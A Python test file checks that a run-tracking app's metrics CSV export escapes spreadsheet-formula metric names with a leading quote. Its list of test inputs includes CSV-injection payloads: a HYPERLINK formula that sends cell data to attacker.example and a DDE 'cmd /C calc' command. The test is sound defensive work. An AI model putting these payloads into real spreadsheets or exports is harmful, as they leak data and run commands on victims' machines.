"""Metric names are whatever a run's code or reporter chose: in the metrics CSV a name that a
spreadsheet would run as a formula (OWASP: a cell starting with = + - @ tab or carriage return) is
written with a leading single quote, so it shows as text. Numbers stay numbers."""

from __future__ import annotations

import csv
import io

from asgiref.sync import async_to_sync

FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A2,"see")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1", "\r=1"]


def body(response) -> bytes:
    async def collect():
        return b"".join([chunk async for chunk in response.streaming_content])

    return async_to_sync(collect)()


def test_formula_metric_names_come_back_as_text(api_client, owner_client, owner):
    api = api_client(owner)
    run_id = api.post("/api/runs/", {"kind": "external", "name": "notebook"}, format="json").json()["id"]
    metrics = {**{name: -0.5 for name in FORMULAS}, "reward": 1.5}
    response = api.post(f"/api/runs/{run_id}/metrics/", {"steps": [{"step": 1, "metrics": metrics}]}, format="json")
    assert response.status_code == 200, response.content

    rows = list(csv.reader(io.StringIO(body(owner_client.get(f"/runs/{run_id}/metrics.csv")).decode(), newline="")))
    header, values = rows
    cells = dict(zip(header, values))
    assert header[0] == "step" and cells["reward"] == "1.5"
    for name in FORMULAS:
        assert "'" + name in cells, (name, header)
        assert cells["'" + name] == "-0.5"  # a number, negative, left as it is
    assert not [cell for cell in header if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
